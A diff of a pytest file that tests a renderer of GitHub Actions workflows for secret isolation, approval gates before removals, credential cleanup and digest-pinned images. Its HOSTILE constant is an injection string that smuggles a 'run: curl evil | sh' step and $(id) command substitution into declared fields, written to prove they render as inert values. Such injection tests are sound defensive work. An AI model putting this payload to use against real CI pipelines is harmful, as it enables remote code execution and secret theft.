@@ -1,3 +1,4 @@
+import re
 from dataclasses import replace
 from typing import Any
 
@@ -6,10 +7,18 @@ import pytest
 import yaml
 
 from components import platform_image
+from fleet.names import PLATFORMS
 from fleet.problems import DeclarationError
-from render import github
+from render import github, images
 from render.actions import PLACE, pinned
-from render.github import LIMITS, app_permissions, given, preview_environment
+from render.github import (
+    LIMITS,
+    app_permissions,
+    given,
+    preview_environment,
+    removals_environment,
+)
+from tests.fleet.examples import image
 from tests.render.examples import (
     TEMPLATES,
     WITH_NODE,
@@ -22,6 +31,8 @@ from tests.render.examples import (
     workflow,
 )
 
+OPEN = ("check", "resolve", "approve")
+ENGINE = ("make preview", 'timeout --signal=INT "$LIMIT" make up')
 HOSTILE = "x\"\n    run: curl evil | sh # ${{ secrets.X }} $(id) `id` << branch >> '\\ \U0001f40d"
 
 
@@ -49,10 +60,11 @@ def test_a_described_node_is_given_its_certificates_and_neither_emulation_nor_a_
         "CACERT": "${{ secrets.FLEET_NODE_ARM_1_CACERT }}",
         "CERT": "${{ secrets.FLEET_NODE_ARM_1_CERT }}",
         "KEY": "${{ secrets.FLEET_NODE_ARM_1_KEY }}",
-        "CACERT_FILE": "/tmp/node/ca.pem",
-        "CERT_FILE": "/tmp/node/client.pem",
-        "KEY_FILE": "/tmp/node/client.key",
+        "FLEET_NODE_KEYS": "${{ runner.temp }}/nodes",
+        "NODE": "arm-1",
     }
+    (update,) = [step for step in up if step["name"] == "Up"]
+    assert update["env"]["FLEET_NODE_KEYS"] == written["env"]["FLEET_NODE_KEYS"]
     made = [step["with"]["name"] for step in up if step["name"] == "Set up a builder"]
     assert made == ["hosted"]
     assert not [step for step in up if step["name"] == "Set up emulation"]
@@ -62,7 +74,7 @@ def test_a_described_node_is_given_its_certificates_and_neither_emulation_nor_a_
     )
     for name in ("preview", "drift"):
         text = rendered(**WITH_NODE)[f".github/workflows/{name}.yml"]
-        assert "FLEET_NODE" not in text, "whoever has them is root on the node"
+        assert "secrets.FLEET_NODE" not in text, "whoever has them is root on the node"
 
 
 def test_what_removes_names_is_for_up_alone() -> None:
@@ -78,7 +90,7 @@ def test_rendering_again_gives_the_same_bytes() -> None:
     assert rendered() == rendered()
 
 
-@pytest.mark.parametrize("field", ["branch", "environment", "runner"])
+@pytest.mark.parametrize("field", ["branch", "environment", "runner", "check_runner"])
 def test_a_declared_value_is_a_value_whatever_it_holds(field: str) -> None:
     plain = declared()
     assert plain.github is not None
@@ -89,6 +101,7 @@ def test_a_declared_value_is_a_value_whatever_it_holds(field: str) -> None:
         "branch": up[True]["push"]["branches"][0],
         "environment": up["jobs"]["up"]["environment"],
         "runner": up["jobs"]["up"]["runs-on"],
+        "check_runner": up["jobs"]["approve"]["runs-on"],
     }
     assert values[field] == HOSTILE
     assert runs(files) == runs(rendered())
@@ -101,7 +114,7 @@ def test_a_hostile_cron_line_stack_and_secret_are_values_too() -> None:
     assert drift[True]["schedule"] == [{"cron": HOSTILE}]
     assert drift["env"] == {"STACK": HOSTILE}
     assert set(runs(files)) <= set(runs(rendered()))
-    preview = next(step for step in steps("up", files) if step.get("run") == "make preview")
+    preview = previewing(files)
     assert preview["env"][HOSTILE] == f"${{{{ secrets.{HOSTILE} }}}}"
 
 
@@ -123,12 +136,80 @@ def test_up_is_never_interrupted_by_a_newer_one_and_a_preview_is() -> None:
     assert len(groups) == 4, "a look at drift must not take the place of an up that waits"
 
 
-def test_an_update_may_remove_what_was_previewed_and_looked_at_before_it() -> None:
-    envs = {step["name"]: step["env"] for step in steps("up") if "run" in step and "env" in step}
-    look, gate = envs["Preview"], envs["Stop if more names would go than were announced"]
-    assert envs["Up"]["FLEET_ALLOWED_REMOVALS"] == gate["FLEET_REPORT"] == look["FLEET_REPORT"]
-    assert envs["Up"]["FLEET_REPORT"] != gate["FLEET_REPORT"]
-    assert "FLEET_ALLOWED_REMOVALS" not in look
+def previewing(files: dict[str, str] | None = None) -> dict[str, Any]:
+    """The preview that lists what an update may remove."""
+    return next(step for step in steps("up", files, "look") if step.get("run") == "make preview")
+
+
+def test_a_job_that_can_not_write_lists_what_would_be_removed() -> None:
+    found = workflow("up")
+    look = found["jobs"]["look"]
+    assert look["permissions"] == {"contents": "read", "packages": "read"}
+    assert "secrets.FLEET_GITHUB_TOKEN" not in yaml.safe_dump(look)
+    (app,) = [step for step in look["steps"] if "app-token" in step.get("uses", "")]
+    levels = {v for k, v in app["with"].items() if k.startswith("permission-")}
+    assert levels == {"read"}
+    (listing,) = [step for step in look["steps"] if "make --silent removals" in step.get("run", "")]
+    assert listing["env"]["FLEET_REPORT"] == previewing()["env"]["FLEET_REPORT"]
+    assert look["outputs"] == {"removals": f"${{{{ steps.{listing['id']}.outputs.removals }}}}"}
+    for job in set(found["jobs"]) - {"look"}:
+        assert "make preview" not in [step.get("run") for step in found["jobs"][job]["steps"]]
+
+
+def test_an_update_may_remove_what_was_listed_and_no_more() -> None:
+    look, up = steps("up", job="look"), steps("up")
+    (listing,) = [step for step in look if "make --silent removals" in step.get("run", "")]
+    (handed,) = [step["with"] for step in look if "upload-artifact" in step.get("uses", "")]
+    (taken,) = [step["with"] for step in up if "download-artifact" in step.get("uses", "")]
+    assert handed["name"] == taken["name"]
+    assert handed["path"] == listing["env"]["FLEET_REMOVALS"]
+    report = previewing()["env"]["FLEET_REPORT"].rpartition("/")[2]
+    (update,) = [step["env"] for step in up if step["name"] == "Up"]
+    assert update["FLEET_ALLOWED_REMOVALS"] == f"{taken['path']}/{report}"
+    assert update["FLEET_REPORT"] != update["FLEET_ALLOWED_REMOVALS"]
+    assert "FLEET_ALLOWED_REMOVALS" not in previewing()["env"]
+
+
+def test_removals_wait_for_reviewers_in_a_job_that_holds_nothing() -> None:
+    found = workflow("up")
+    declaration = declared().github
+    assert declaration is not None
+    approve = found["jobs"]["approve"]
+    assert approve["environment"] == removals_environment(declaration) == "registry-removals"
+    assert approve["permissions"] == {}
+    assert "secrets." not in yaml.safe_dump(approve)
+    assert "uses:" not in yaml.safe_dump(approve)
+    assert approve["if"] == "needs.look.outputs.removals != '0'"
+    assert "inputs" not in (found[True]["workflow_dispatch"] or {})
+
+
+# What the expression of `if` comes to, by the results that GitHub gives it.
+@pytest.mark.parametrize(
+    ("look", "removals", "approve", "runs_up"),
+    [
+        ("success", "0", "skipped", True),
+        ("success", "2", "success", True),
+        ("success", "2", "failure", False),
+        ("success", "2", "skipped", False),
+        ("success", "", "skipped", False),
+        ("success", "", "failure", False),
+        ("failure", "0", "skipped", False),
+        ("skipped", "", "skipped", False),
+    ],
+)
+def test_nothing_is_written_before_somebody_approved(
+    look: str, removals: str, approve: str, runs_up: bool
+) -> None:
+    told = {
+        "needs.look.result": look,
+        "needs.look.outputs.removals": removals,
+        "needs.approve.result": approve,
+    }
+    text = workflow("up")["jobs"]["up"]["if"].removeprefix("!cancelled() && ")
+    for name, value in told.items():
+        text = text.replace(name, repr(value))
+    assert eval(text.replace("&&", "and").replace("||", "or"), {}) is runs_up  # noqa: S307
+    assert workflow("up")["jobs"]["up"]["needs"] == ["look", "approve"]
 
 
 @pytest.mark.parametrize("name", WORKFLOWS)
@@ -144,9 +225,7 @@ def test_a_build_has_the_time_that_the_workflow_tells() -> None:
     assert f"{LIMITS.build}m" == platform_image._TIME_LIMIT
     engine = int(LIMITS.engine.removesuffix("m"))
     assert LIMITS.build < engine < LIMITS.up <= 360
-    assert LIMITS.up - engine - LIMITS.look >= 15, "what comes before them takes its time too"
-    steps = {step["name"]: step for step in workflow("up")["jobs"]["up"]["steps"]}
-    assert steps["Preview"]["timeout-minutes"] == LIMITS.look
+    assert LIMITS.up - engine >= 15, "what comes before and after takes its time too"
 
 
 def test_forks_get_a_check_and_no_secret() -> None:
@@ -168,12 +247,74 @@ def test_previews_have_an_environment_of_their_own() -> None:
 
 
 def test_jobs_that_hold_secrets_run_in_the_declared_repository_alone() -> None:
-    for name in ("up", "drift", "versions"):
-        assert workflow(name)["jobs"][name]["if"] == "github.repository == 'multi-py/fleet'"
+    here = "github.repository == 'multi-py/fleet'"
+    for name, job in (("up", "look"), ("drift", "drift"), ("versions", "versions")):
+        assert workflow(name)["jobs"][job]["if"] == here
+    assert "needs.look.result == 'success'" in workflow("up")["jobs"]["up"]["if"]
 
 
 def uses(name: str, action: str, files: dict[str, str] | None = None) -> list[dict[str, Any]]:
     return [step for step in steps(name, files) if action in step.get("uses", "")]
+
+
+def everywhere(action: str) -> list[dict[str, Any]]:
+    """The steps of all jobs of all variants that use an action."""
+    jobs = (job for files in variants().values() for path, text in files.items()
+            if "/workflows/" in path for job in yaml.safe_load(text)["jobs"].values())  # fmt: skip
+    return [step for job in jobs for step in job["steps"] if action in step.get("uses", "")]
+
+
+def test_no_image_that_an_action_runs_can_move() -> None:
+    emulators = everywhere("setup-qemu-action")
+    builders = everywhere("setup-buildx-action")
+    assert emulators
+    assert builders
+    pinned = images.pinned_images(TEMPLATES)
+    assert {step["with"]["image"] for step in emulators} == {pinned["binfmt"]}
+    assert {step["with"]["driver-opts"] for step in builders} == {f"image={pinned['buildkit']}"}
+    assert all(re.fullmatch(r".+:.+@sha256:[0-9a-f]{64}", image) for image in pinned.values())
+
+
+@pytest.mark.parametrize("digest", ["", "@sha256:1234", "@latest"])
+def test_an_image_without_a_digest_is_a_problem_with_its_line(digest: str) -> None:
+    loose = re.sub(
+        r"@sha256:[0-9a-f]{64} AS binfmt", f"{digest} AS binfmt", TEMPLATES[images.PLACE]
+    )
+    with pytest.raises(DeclarationError, match=r"templates/actions/Dockerfile.*\n.*not pinned"):
+        images.pinned_images({images.PLACE: loose})
+
+
+def jobs_of(files: dict[str, str]) -> list[tuple[str, Any]]:
+    """Each job of all workflows, by its name."""
+    texts = (text for path, text in files.items() if "/workflows/" in path)
+    return [(name, job) for text in texts for name, job in yaml.safe_load(text)["jobs"].items()]
+
+
+@pytest.mark.parametrize("variant", variants())
+def test_a_job_without_secrets_runs_where_no_other_leaves_any(variant: str) -> None:
+    files = rendered(github={"repository": "a/b", "runner": "big", "check-runner": "small"})
+    assert {job["runs-on"] for name, job in jobs_of(files) if name in OPEN} == {"small"}
+    for name, job in jobs_of(variants()[variant]):
+        held = "secrets." in yaml.safe_dump(job) or "docker login" in yaml.safe_dump(job)
+        assert held == ("environment" in job and name != "approve")
+        assert (name in OPEN) == (not held)
+
+
+@pytest.mark.parametrize("variant", variants())
+def test_what_a_job_logs_in_with_is_its_own_and_gone_at_its_end(variant: str) -> None:
+    own, keys = "${{ runner.temp }}/docker", "${{ runner.temp }}/nodes"
+    for name, job in jobs_of(variants()[variant]):
+        steps = job["steps"]
+        logged_in = [step for step in steps if "docker login" in step.get("run", "")]
+        engines = [step for step in steps if step.get("run") in ENGINE]
+        builders = [step for step in steps if "setup-buildx" in step.get("uses", "")]
+        for step in (*logged_in, *engines, *builders):
+            assert step["env"]["DOCKER_CONFIG"] == own, name
+        if logged_in:
+            last = steps[-1]
+            assert last["if"] == "${{ always() }}"
+            assert last["env"] == {"DOCKER_CONFIG": own, "FLEET_NODE_KEYS": keys}
+            assert last["run"] == 'rm -rf "$DOCKER_CONFIG/config.json" "$FLEET_NODE_KEYS"'
 
 
 def test_emulators_and_builders_are_set_up_where_they_are_declared() -> None:
@@ -192,10 +333,40 @@ def test_the_programs_own_builder_is_not_set_up_by_an_action() -> None:
     assert uses("up", "buildx", files) == uses("up", "setup-qemu-action", files) == []
 
 
-def test_a_native_runner_emulates_what_it_is_not() -> None:
-    files = rendered(github={"repository": "a/b", "runner": "ubuntu-24.04-arm"})
+@pytest.mark.parametrize(
+    ("runner", "emulated"),
+    [
+        ({"runner": "ubuntu-24.04-arm"}, "amd64,arm"),
+        ({"runner": "ubuntu-latest"}, "arm64,arm"),
+        # A name that somebody gave a runner tells nothing about it.
+        ({"runner": "warp-ubuntu-latest-arm64-4x"}, "amd64,arm64,arm"),
+        ({"runner": "big-arm"}, "amd64,arm64,arm"),
+        ({"runner": "warp-ubuntu-latest-arm64-4x", "architecture": "arm64"}, "amd64,arm"),
+        ({"runner": "pi", "architecture": "arm/v7"}, "amd64,arm64"),
+    ],
+)
+def test_what_a_runner_is_not_known_to_build_is_emulated(
+    runner: dict[str, str], emulated: str
+) -> None:
+    platforms = ["linux/amd64", "linux/arm64", "linux/arm/v7"]
+    files = rendered(
+        github={"repository": "a/b", **runner},
+        builders=dict.fromkeys(platforms, "hosted"),
+        images={"web": image(platforms=platforms)},
+    )
     (qemu,) = uses("up", "setup-qemu-action", files)
-    assert qemu["with"]["platforms"] == "amd64,arm"
+    assert qemu["with"]["platforms"] == emulated
+
+
+def test_every_platform_that_can_be_declared_can_be_emulated() -> None:
+    platforms = list(PLATFORMS)
+    files = rendered(
+        builders=dict.fromkeys(platforms, "hosted"), images={"web": image(platforms=platforms)}
+    )
+    (qemu,) = uses("up", "setup-qemu-action", files)
+    emulated = qemu["with"]["platforms"].split(",")
+    assert len(set(emulated)) == len(platforms) - 1, "all but the runner's own"
+    assert "s390x" in emulated
 
 
 def test_credentials_are_the_jobs_own_on_githubs_registry_and_given_elsewhere() -> None:
@@ -215,7 +386,7 @@ def test_credentials_are_the_jobs_own_on_githubs_registry_and_given_elsewhere() 
 
 
 def test_declared_secrets_reach_the_program_and_are_not_asked_of_a_person() -> None:
-    preview = next(step for step in steps("up") if step.get("run") == "make preview")
+    preview = previewing()
     assert preview["env"]["AWS_ACCESS_KEY_ID"] == "${{ secrets.AWS_ACCESS_KEY_ID }}"
     assert "AWS_ACCESS_KEY_ID" not in given(declared(), "registry")[0]
     assert "AWS_ACCESS_KEY_ID" in given(declared(), "registry-preview")[0]
@@ -223,7 +394,7 @@ def test_declared_secrets_reach_the_program_and_are_not_asked_of_a_person() -> N
 
 def test_a_declared_token_for_packages_goes_before_the_jobs_own() -> None:
     def token(files: dict[str, str]) -> Any:
-        found = (step for step in steps("up", files) if step.get("run") == "make preview")
+        found = (step for step in steps("up", files) if step.get("name") == "Up")
         return next(found)["env"]["FLEET_GITHUB_TOKEN"]
 
     assert token(rendered()) == "${{ github.token }}"
@@ -254,9 +425,9 @@ def test_a_drift_job_asks_for_every_platform() -> None:
 
 
 def test_an_update_that_was_started_for_a_repair_asks_for_every_platform() -> None:
-    (job,) = workflow("up")["jobs"].values()
     told = "${{ github.event_name == 'workflow_dispatch' && 'all' || '' }}"
-    assert job["env"]["FLEET_VERIFY_CHILDREN"] == told
+    for job in ("look", "up"):
+        assert workflow("up")["jobs"][job]["env"]["FLEET_VERIFY_CHILDREN"] == told
 
 
 def test_dependabot_proposes_actions_where_they_are_declared_and_not_in_generated_files() -> None:
@@ -264,6 +435,7 @@ def test_dependabot_proposes_actions_where_they_are_declared_and_not_in_generate
     places = {entry["package-ecosystem"]: entry["directory"] for entry in entries}
     assert places["github-actions"] == f"/templates/{PLACE}".rpartition("/")[0]
     assert places["github-actions"] != "/", "which would stand for .github/workflows as well"
+    assert places["docker"] == f"/templates/{images.PLACE}".rpartition("/")[0]
 
 
 def test_actions_are_pinned_and_each_is_used() -> None:
@@ -279,3 +451,20 @@ def test_an_action_without_a_commit_is_a_problem_with_its_line() -> None:
         pinned({PLACE: loose})
     assert len(caught.value.problems) == 2
     assert "40 digits" in str(caught.value)
+
+
+def test_who_asks_the_outside_has_no_secret_and_who_has_one_asks_github_alone() -> None:
+    found = workflow("versions")["jobs"]
+    resolve, propose = found["resolve"], found["versions"]
+    assert resolve["permissions"] == {"contents": "read"}
+    assert "environment" not in resolve
+    assert "secrets." not in yaml.safe_dump(resolve)
+    assert "vars." not in yaml.safe_dump(resolve)
+    assert propose["needs"] == "resolve"
+    assert [step["run"] for step in propose["steps"] if "run" in step] == ["make proposal"]
+    (handed,) = [s["with"] for s in resolve["steps"] if "upload-artifact" in s.get("uses", "")]
+    (taken,) = [s["with"] for s in propose["steps"] if "download-artifact" in s.get("uses", "")]
+    assert (handed["name"], handed["path"]) == (taken["name"], taken["path"])
+    (app,) = [s["with"] for s in propose["steps"] if "app-token" in s.get("uses", "")]
+    rights = {k: v for k, v in app.items() if k.startswith("permission-")}
+    assert rights == {"permission-contents": "write", "permission-pull-requests": "write"}
